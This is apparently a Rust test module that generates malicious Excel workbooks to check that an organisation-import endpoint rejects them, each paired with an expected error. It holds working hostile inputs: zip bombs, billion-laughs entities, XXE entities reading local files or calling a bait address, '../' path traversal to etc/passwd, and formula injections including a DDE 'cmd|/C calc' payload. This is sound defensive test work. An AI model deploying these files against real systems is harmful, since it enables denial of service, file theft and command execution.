//! Workbooks: bombs, entities, lies about sizes, parts that stand elsewhere.
use super::zips::{Part, lying_directory, overlapping, zip};
use super::{Bait, End, Hostile, To};

const MAIN: &str = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
const RELATIONS: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const HEADS: [&str; 5] = ["code", "name", "type", "parent_code", "category"];
const SHEET: &str = "xl/worksheets/sheet1.xml";
const STRINGS: &str = "xl/sharedStrings.xml";
const BOOK: &str = "xl/workbook.xml";
const LINKS: &str = "xl/_rels/workbook.xml.rels";

fn text(place: &str, value: &str) -> String {
    format!(r#"<c r="{place}" t="inlineStr"><is><t>{value}</t></is></c>"#)
}
/// The head of a table of organisations, so that what follows is looked at.
fn heads() -> String {
    let cells: String = HEADS.iter().zip('A'..).map(|(head, column)| text(&format!("{column}1"), head)).collect();
    format!(r#"<row r="1">{cells}</row>"#)
}
fn worksheet(rows: &str, behind: &str) -> String {
    format!(r#"<worksheet xmlns="{MAIN}"><sheetData>{}{rows}</sheetData>{behind}</worksheet>"#, heads())
}
fn sheet(rows: &str) -> Part {
    Part::of(SHEET, &worksheet(rows, ""))
}
/// A sheet whose row 2 is begun, then a piece again and again.
fn long(unit: &str, times: usize) -> Part {
    Part::repeated(
        SHEET,
        &format!(r#"<worksheet xmlns="{MAIN}"><sheetData>{}<row r="2">"#, heads()),
        unit,
        times,
        "</row></sheetData></worksheet>",
    )
}
fn linked(target: &str, how: &str) -> Part {
    let link = format!(r#"<Relationship Id="rId1" Type="{RELATIONS}/worksheet" Target="{target}"{how}/>"#);
    Part::of(LINKS, &format!("<Relationships>{link}</Relationships>"))
}
fn book(before: &str, name: &str) -> Part {
    let sheets = format!(r#"<sheets><sheet name="{name}" sheetId="1" r:id="rId1"/></sheets>"#);
    Part::of(BOOK, &format!(r#"{before}<workbook xmlns="{MAIN}" xmlns:r="{RELATIONS}">{sheets}</workbook>"#))
}

/// A whole workbook: `parts` take the place of its own of the same name, or come on top.
fn parts(more: Vec<Part>) -> Vec<Part> {
    let root = format!(r#"<Relationships><Relationship Id="rId1" Type="{RELATIONS}/officeDocument" Target="{BOOK}"/></Relationships>"#);
    let own = [
        Part::of("[Content_Types].xml", "<Types/>"),
        Part::of("_rels/.rels", &root),
        book("", "S"),
        linked("worksheets/sheet1.xml", ""),
        sheet(&row("21-x")),
    ];
    let mut all: Vec<Part> = own.into_iter().filter(|p| more.iter().all(|m| m.name != p.name)).collect();
    all.extend(more);
    all
}
/// One more organisation, as it should be.
fn row(code: &str) -> String {
    let cells = [text("A2", code), text("B2", "新支部"), text("C2", "631"), text("D2", "21-0"), text("E2", "机关")];
    format!(r#"<row r="2">{}</row>"#, cells.concat())
}

/// A workbook of texts, as it should be; at most 26 columns.
pub fn of_texts(rows: &[Vec<String>]) -> Vec<u8> {
    let row = |(at, cells): (usize, &Vec<String>)| {
        let at = at + 1;
        let cells: String = cells.iter().zip('A'..).map(|(cell, column)| text(&format!("{column}{at}"), cell)).collect();
        format!(r#"<row r="{at}">{cells}</row>"#)
    };
    let all: String = rows.iter().enumerate().map(row).collect();
    let whole = format!(r#"<worksheet xmlns="{MAIN}"><sheetData>{all}</sheetData></worksheet>"#);
    zip(&parts(vec![Part::of(SHEET, &whole)]))
}

fn to_import(what: &'static str, content: Vec<u8>, end: End) -> Hostile {
    Hostile {
        media: "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        ..Hostile::new(what, To::Import("organisations"), "组织.xlsx", content, end)
    }
}
fn refused(what: &'static str, more: Vec<Part>, words: &'static str) -> Hostile {
    to_import(what, zip(&parts(more)), End::Refused(words))
}

/// Ten entities, each ten of the one before.
fn laughs(name: &str) -> String {
    let mut all = format!(r#"<!DOCTYPE {name} [<!ENTITY a0 "{}">"#, "ha".repeat(50));
    (1..10).for_each(|n| all.push_str(&format!(r#"<!ENTITY a{n} "{}">"#, format!("&a{};", n - 1).repeat(10))));
    all + "]>"
}

const BROKEN: &str = "文件已损坏";
const INFLATES: &str = "解压后超过";

pub fn all(bait: &Bait) -> Vec<Hostile> {
    [bombs(), entities(bait), lies(bait), cells()].into_iter().flatten().collect()
}

fn bombs() -> Vec<Hostile> {
    let corner = |place: &str, number: u32| format!(r#"<row r="{number}"><c r="{place}{number}"><v>1</v></c></row>"#);
    let dimension = format!(r#"<worksheet xmlns="{MAIN}"><dimension ref="A1:XFD1048576"/>"#);
    let wide = worksheet(&corner("XFD", 1_048_576), "").replacen(&format!(r#"<worksheet xmlns="{MAIN}">"#), &dimension, 1);
    let media = |mib| Part::repeated("xl/media/image1.png", "", &"0".repeat(1 << 20), mib, "");
    let strings = |unit: &str, times| Part::repeated(STRINGS, "<sst>", unit, times, "</sst>");
    let kernel = Part::repeated("xl/media/0.png", "", &"0".repeat(1 << 20), 1, "");
    let many: Vec<Part> = (0..60_000).map(|n| Part::of(&format!("xl/media/{n}.png"), "")).collect();
    let cell = Part::repeated(
        SHEET,
        &format!(r#"<worksheet xmlns="{MAIN}"><sheetData>{}<row r="2"><c r="A2" t="inlineStr"><is><t>"#, heads()),
        &"x".repeat(1 << 20),
        30,
        "</t></is></c></row></sheetData></worksheet>",
    );
    let nested = zip(&[media(16)]);
    let inner = Part { name: SHEET.into(), ..Part::of(SHEET, &nested.iter().map(|b| char::from(*b)).collect::<String>()) };
    vec![
        refused("a value in the last corner", vec![Part::of(SHEET, &wide)], "超过 256 列"),
        refused("a value in the last row", vec![sheet(&corner("A", 1_048_576))], "超过 200000 行"),
        refused("a gigabyte of nothing", vec![media(1024)], INFLATES),
        refused("a gigabyte that says it is a byte", vec![media(1024).saying(1)], INFLATES),
        to_import("a megabyte that 1,900 entries name", overlapping(&parts(Vec::new()), &kernel, 1_900), End::Refused(INFLATES)),
        refused("sixty thousand parts", many, INFLATES),
        refused("a zip in the place of a sheet", vec![inner], BROKEN),
        refused("sixty million cells", vec![long(&"<c/>".repeat(1 << 16), 920)], INFLATES),
        refused("ten million cells with nothing", vec![long(&r#"<c s="1"/>"#.repeat(1 << 12), 2_440)], INFLATES),
        refused("ten million shared strings", vec![strings(&"<si><t/></si>".repeat(1 << 12), 2_440)], INFLATES),
        refused("a million shared strings", vec![strings(&"<si><t>x</t></si>".repeat(1 << 10), 1_000)], "MB 内存"),
        refused(
            "a promise of 2^36 strings",
            vec![Part::of(STRINGS, &format!(r#"<sst uniqueCount="{}"><si><t>x</t></si></sst>"#, 1u64 << 36))],
            "内存",
        ),
        refused("a cell of 30 MB", vec![cell], "MB 内存"),
        refused("a million elements, one in the other", vec![long(&"<x>".repeat(1 << 10), 1_000)], "只有表头"),
        refused(
            "an attribute of 30 MB",
            vec![Part::repeated(SHEET, "<worksheet a=\"", &"x".repeat(1 << 20), 30, "\"></worksheet>")],
            BROKEN,
        ),
    ]
}

fn entities(bait: &Bait) -> Vec<Hostile> {
    let shared = r#"<row r="2"><c r="A2" t="s"><v>0</v></c></row>"#;
    let strings = |before: &str, name: &str| Part::of(STRINGS, &format!("{before}<sst><si><t>&{name};</t></si></sst>"));
    let file = format!(r#"<!DOCTYPE x [<!ENTITY e SYSTEM "file://{}">]>"#, bait.path);
    let net = format!(r#"<!DOCTYPE x [<!ENTITY % p SYSTEM "http://{0}/p"> %p; <!ENTITY e SYSTEM "http://{0}/e">]>"#, bait.address);
    let named = |name: &str| worksheet(&row(&format!("&{name};")), "");
    vec![
        refused("a billion laughs in the workbook", vec![book(&laughs("workbook"), "&a9;")], BROKEN),
        refused("a billion laughs in the sheet", vec![Part::of(SHEET, &format!("{}{}", laughs("worksheet"), named("a9")))], BROKEN),
        refused("a billion laughs in the strings", vec![sheet(shared), strings(&laughs("sst"), "a9")], BROKEN),
        refused("an entity that is a file, in the workbook", vec![book(&file, "&e;")], BROKEN),
        refused("an entity that is a file, in the sheet", vec![Part::of(SHEET, &format!("{file}{}", named("e")))], BROKEN),
        refused("an entity that is a file, in the strings", vec![sheet(shared), strings(&file, "e")], BROKEN),
        refused("an entity that is an address", vec![sheet(shared), strings(&net, "e")], BROKEN),
    ]
}

fn lies(bait: &Bait) -> Vec<Hostile> {
    let whole = zip(&parts(Vec::new()));
    let half = whole[..whole.len() / 2].to_vec();
    let up = "../".repeat(12);
    let encrypted = Part { flags: 1, ..sheet(&row("21-x")) };
    let zip64 = Part {
        said: u32::MAX,
        extra: [1u16.to_le_bytes().as_slice(), &8u16.to_le_bytes(), &(1u64 << 62).to_le_bytes()].concat(),
        ..sheet("")
    };
    let twice = parts(vec![sheet(&row("21-y"))]).into_iter().chain([sheet(&row("21-z"))]).collect::<Vec<_>>();
    let without = |name: &str| zip(&parts(Vec::new()).into_iter().filter(|p| p.name != name).collect::<Vec<_>>());
    let ole: Vec<u8> = [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1].into_iter().chain([0; 4096]).collect();
    vec![
        refused("a sheet that says it is 2^62 bytes", vec![zip64], INFLATES),
        to_import("a directory of 2^60 entries", lying_directory(&parts(Vec::new()), 1 << 60, 1 << 60), End::Refused(BROKEN)),
        to_import("a directory of a million entries", lying_directory(&parts(Vec::new()), 1 << 20, 1 << 30), End::Refused(BROKEN)),
        refused("a part that says it is encrypted", vec![encrypted], BROKEN),
        to_import("the same part twice", zip(&twice), End::Harmless),
        to_import("no sheet", without(SHEET), End::Refused(BROKEN)),
        to_import("no workbook", without(BOOK), End::Refused("不是 Excel 文件")),
        to_import("no links", without(LINKS), End::Refused(BROKEN)),
        to_import("half a file", half, End::Refused(BROKEN)),
        to_import("an old container behind a password", ole, End::Refused("旧版 .xls")),
        to_import(
            "a part that stands elsewhere",
            zip(&parts(vec![Part::of(&format!("{up}{}", &bait.path[1..]), "x"), Part::of(&bait.path, "x")])),
            End::Harmless,
        ),
        refused("a sheet that is a file of the system", vec![linked(&format!("{up}etc/passwd"), "")], BROKEN),
        refused("a sheet at an address", vec![linked(&format!("http://{}/sheet", bait.address), r#" TargetMode="External""#)], BROKEN),
    ]
}

fn cells() -> Vec<Hostile> {
    let cell = |what: &str| sheet(&row("21-x").replacen("</row>", &format!("{what}</row>"), 1));
    let merged = |what: &str| Part::of(SHEET, &worksheet(&row("21-x"), &format!("<mergeCells>{what}</mergeCells>")));
    let many = Part::repeated(
        SHEET,
        &worksheet(&row("21-x"), "<mergeCells>").replace("</worksheet>", ""),
        &r#"<mergeCell ref="A9:B9"/>"#.repeat(1 << 10),
        300,
        "</mergeCells></worksheet>",
    );
    let styles = r#"<styleSheet><cellXfs><xf numFmtId="0"/><xf numFmtId="14"/></cellXfs></styleSheet>"#;
    let dated = |value: &str| {
        let heads = heads().replacen("category", "valid_from", 1);
        let row = row("21-x").replacen(&text("E2", "机关"), &format!(r#"<c r="E2" s="1"><v>{value}</v></c>"#), 1);
        vec![
            Part::of("xl/styles.xml", styles),
            Part::of(SHEET, &format!(r#"<worksheet xmlns="{MAIN}"><sheetData>{heads}{row}</sheetData></worksheet>"#)),
        ]
    };
    vec![
        refused(
            "a formula that asks an address",
            vec![cell(r#"<c r="F2"><f>WEBSERVICE("http://127.0.0.1/"&amp;A2)</f><v>1</v></c>"#)],
            "是公式",
        ),
        refused("a formula that runs a program", vec![cell(r#"<c r="F2"><f>cmd|'/C calc'!A0</f><v>1</v></c>"#)], "是公式"),
        refused("an error in a cell", vec![cell(r#"<c r="F2" t="e"><v>#REF!</v></c>"#)], "是错误值"),
        refused("merged from corner to corner", vec![merged(r#"<mergeCell ref="A2:XFD1048576"/>"#)], "是合并单元格"),
        to_import("three hundred thousand merged places", zip(&parts(vec![many])), End::Harmless),
        refused("a day before all days", dated("-1"), "日期"),
        refused("a day beyond all days", dated("1e300"), "日期"),
        refused("a number that is none", vec![cell(r#"<c r="F2"><v>nan</v></c>"#)], "无法识别"),
    ]
}
